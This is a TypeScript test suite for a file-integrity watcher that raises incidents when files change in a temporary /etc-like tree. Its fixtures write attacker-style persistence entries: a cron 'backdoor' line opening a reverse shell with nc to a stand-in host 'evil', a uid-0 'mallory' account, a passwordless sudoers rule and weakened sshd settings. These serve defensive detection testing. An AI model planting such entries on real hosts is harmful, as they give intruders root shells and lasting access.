/**
 * The file watcher on a real temp tree shaped like /etc: real inotify, real renames.
 * Every step waits for the event it causes (no fixed sleeps), so a loaded machine only
 * makes the test slower.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { appendFileSync, mkdirSync, mkdtempSync, renameSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Observable } from 'rxjs';
import { watchFiles$ } from '../../src/files/watch-files.js';
import { fileChangeIncidents } from '../../src/files/file-change-incidents.js';
import type { FileChange } from '../../src/files/file-change.js';
import type { Incident } from '../../src/model/incident.js';

const root = mkdtempSync(join(tmpdir(), 'pm-files-'));
after(() => rmSync(root, { recursive: true, force: true }));

/** A fresh /etc-like tree: passwd, shadow, ssh/sshd_config, systemd/system/a.service. */
const etcTree = (name: string): string => {
  const etc = join(root, name, 'etc');
  mkdirSync(join(etc, 'ssh'), { recursive: true });
  mkdirSync(join(etc, 'systemd', 'system'), { recursive: true });
  writeFileSync(join(etc, 'passwd'), 'root:x:0:0:root:/root:/bin/bash\n');
  writeFileSync(join(etc, 'shadow'), 'root:*:19000:0:99999:7:::\n');
  writeFileSync(join(etc, 'ssh', 'sshd_config'), 'PermitRootLogin no\n');
  writeFileSync(join(etc, 'systemd', 'system', 'a.service'), '[Unit]\n');
  return etc;
};

/** Subscribes and records; `next(pred)` waits for a recorded item matching pred (after the last one matched). */
const record = <T>(source$: Observable<T>) => {
  const seen: T[] = [];
  let failure: unknown;
  const sub = source$.subscribe({ next: (v) => seen.push(v), error: (e) => (failure = e) });
  let from = 0;
  return {
    seen,
    stop: () => sub.unsubscribe(),
    next: async (what: string, pred: (v: T) => boolean, ms = 10_000): Promise<T> => {
      const end = Date.now() + ms;
      for (;;) {
        if (failure) throw failure;
        const i = seen.findIndex((v, j) => j >= from && pred(v));
        if (i >= 0) {
          from = i + 1;
          return seen[i]!;
        }
        if (Date.now() > end) throw new Error(`timed out waiting for ${what}; seen: ${JSON.stringify(seen)}`);
        await new Promise((r) => setTimeout(r, 20));
      }
    },
  };
};

const is = (path: string, kind: FileChange['kind']) => (c: FileChange) => c.path === path && c.kind === kind;

/** Writes `content` beside `path` and renames it over `path`, as editors and dpkg do. */
const replaceByRename = (path: string, content: string) => {
  writeFileSync(path + '.dpkg-new', content);
  renameSync(path + '.dpkg-new', path);
};

test('watched files: modified, replaced by a rename and still watched after it, removed, added again; neighbours ignored', async () => {
  const etc = etcTree('files');
  const passwd = join(etc, 'passwd');
  const shadow = join(etc, 'shadow');
  const w = record(watchFiles$({ paths: [passwd, shadow], recursive: false }));
  try {
    appendFileSync(passwd, 'mallory:x:0:0::/root:/bin/sh\n');
    await w.next('passwd modified', is(passwd, 'modified'));
    replaceByRename(shadow, 'root:$6$new:19000:0:99999:7:::\n');
    await w.next('shadow replaced', is(shadow, 'modified'));
    // the watch survived the replacement: the new inode is watched
    appendFileSync(shadow, 'mallory:$6$x:19000:0:99999:7:::\n');
    await w.next('replaced shadow modified', is(shadow, 'modified'));
    unlinkSync(passwd);
    await w.next('passwd removed', is(passwd, 'removed'));
    writeFileSync(passwd, 'root:x:0:0:root:/root:/bin/bash\n');
    await w.next('passwd added', is(passwd, 'added'));
    writeFileSync(join(etc, 'hosts'), '127.0.0.1 localhost\n');
    appendFileSync(shadow, '\n');
    await w.next('shadow modified last', is(shadow, 'modified'));
    assert.deepEqual(w.seen.filter((c) => c.path !== passwd && c.path !== shadow), [], 'only the watched files are reported');
  } finally {
    w.stop();
  }
});

test('a recursive directory: added, modified deep down, new subdirectories watched, replaced by rename, removed', async () => {
  const etc = etcTree('recursive');
  const sshd = join(etc, 'ssh', 'sshd_config');
  const w = record(watchFiles$({ paths: [etc], recursive: true }));
  try {
    writeFileSync(join(etc, 'new.conf'), 'x\n');
    await w.next('new.conf added', is(join(etc, 'new.conf'), 'added'));
    appendFileSync(sshd, 'PermitRootLogin yes\n');
    await w.next('sshd_config modified (a subdirectory)', is(sshd, 'modified'));
    replaceByRename(sshd, 'PasswordAuthentication yes\n');
    await w.next('sshd_config replaced', is(sshd, 'modified'));
    appendFileSync(sshd, 'X11Forwarding yes\n');
    await w.next('replaced sshd_config modified', is(sshd, 'modified'));
    mkdirSync(join(etc, 'cron.d'));
    await w.next('cron.d added', is(join(etc, 'cron.d'), 'added'));
    writeFileSync(join(etc, 'cron.d', 'backdoor'), '* * * * * root nc -e /bin/sh evil 4444\n');
    await w.next('a file in the new directory added', is(join(etc, 'cron.d', 'backdoor'), 'added'));
    unlinkSync(join(etc, 'systemd', 'system', 'a.service'));
    await w.next('a.service removed (two levels down)', is(join(etc, 'systemd', 'system', 'a.service'), 'removed'));
    rmSync(join(etc, 'cron.d'), { recursive: true });
    await w.next('cron.d removed', is(join(etc, 'cron.d'), 'removed'));
    // a directory moved in whole: it and what it holds are added, and it is watched
    const outside = join(root, 'recursive', 'staged');
    mkdirSync(outside);
    writeFileSync(join(outside, 'unit.service'), '[Service]\n');
    renameSync(outside, join(etc, 'systemd', 'staged'));
    await w.next('moved-in directory added', is(join(etc, 'systemd', 'staged'), 'added'));
    await w.next('its file added', is(join(etc, 'systemd', 'staged', 'unit.service'), 'added'));
    appendFileSync(join(etc, 'systemd', 'staged', 'unit.service'), 'ExecStart=/bin/true\n');
    await w.next('moved-in file modified', is(join(etc, 'systemd', 'staged', 'unit.service'), 'modified'));
    // a directory renamed over an (empty) watched one: the new one is watched, its files added
    mkdirSync(join(etc, 'conf.d'));
    await w.next('conf.d added', is(join(etc, 'conf.d'), 'added'));
    const replacement = join(root, 'recursive', 'conf.d.new');
    mkdirSync(replacement);
    writeFileSync(join(replacement, 'x.conf'), 'x\n');
    renameSync(replacement, join(etc, 'conf.d'));
    await w.next('conf.d replaced', is(join(etc, 'conf.d'), 'modified'));
    await w.next('its file added', is(join(etc, 'conf.d', 'x.conf'), 'added'));
    appendFileSync(join(etc, 'conf.d', 'x.conf'), 'y\n');
    await w.next('a file of the replacing directory modified', is(join(etc, 'conf.d', 'x.conf'), 'modified'));
  } finally {
    w.stop();
  }
});

test('a directory without recursive: its entries only; a path whose directory is missing is skipped, the others watched', async () => {
  const etc = etcTree('flat');
  const skipped: string[] = [];
  const missing = join(root, 'flat', 'nope', 'authorized_keys');
  const underFile = join(etc, 'passwd', 'x');
  const w = record(watchFiles$({ paths: [missing, underFile, etc], recursive: false, onSkipped: (p, why) => skipped.push(`${p}: ${why}`) }));
  try {
    assert.deepEqual(skipped, [`${missing}: its directory ${join(root, 'flat', 'nope')} does not exist`, `${underFile}: ${join(etc, 'passwd')} is not a directory`]);
    appendFileSync(join(etc, 'ssh', 'sshd_config'), 'deep\n');
    writeFileSync(join(etc, 'group'), 'root:x:0:\n');
    await w.next('group added', is(join(etc, 'group'), 'added'));
    assert.deepEqual(w.seen.filter((c) => c.path.startsWith(join(etc, 'ssh') + '/')), [], 'no event from below the directory');
  } finally {
    w.stop();
  }
});

test('file_monitor on an /etc-like tree: a burst of changes fires one incident naming them; one file rewritten over and over stays under its cap', async () => {
  const etc = etcTree('incident');
  const passwd = join(etc, 'passwd');
  const incidents = record<Incident>(
    watchFiles$({ paths: [etc], recursive: true }).pipe(
      fileChangeIncidents({ name: 'etc changed', threshold: 5, actions: ['alert_critical'], windowMs: 60_000, maxEventsPerPath: 2 }),
    ),
  );
  // a probe on the same tree tells when the writes were seen, so "no incident" is observed, not assumed
  const probe = record(watchFiles$({ paths: [etc], recursive: true }));
  try {
    // one write at a time: inotify folds identical events that are not read yet into one
    for (let i = 0; i < 6; i++) {
      appendFileSync(passwd, `u${i}:x:100${i}:100${i}::/home/u${i}:/bin/sh\n`);
      await probe.next(`passwd write ${i}`, is(passwd, 'modified'));
    }
    assert.deepEqual(incidents.seen, [], 'one path is capped at 2 events: 6 writes are not 5 changes');
    writeFileSync(join(etc, 'sudoers.d-evil'), 'mallory ALL=(ALL) NOPASSWD: ALL\n');
    unlinkSync(join(etc, 'systemd', 'system', 'a.service'));
    const incident = await incidents.next('the incident', () => true);
    assert.equal(incident.name, 'etc changed');
    assert.equal(incident.severity, 'critical');
    assert.equal(incident.metadata.monitorType, 'file_monitor');
    assert.equal(incident.count, 5);
    // a new file is two events (created, then written), as inotify reports it
    assert.match(incident.metadata.details, /^5 file changes within 1m: modified .*\/etc\/passwd \(2 events\); added, modified .*\/etc\/sudoers\.d-evil \(2 events\); removed .*\/etc\/systemd\/system\/a\.service$/);
  } finally {
    incidents.stop();
    probe.stop();
  }
});
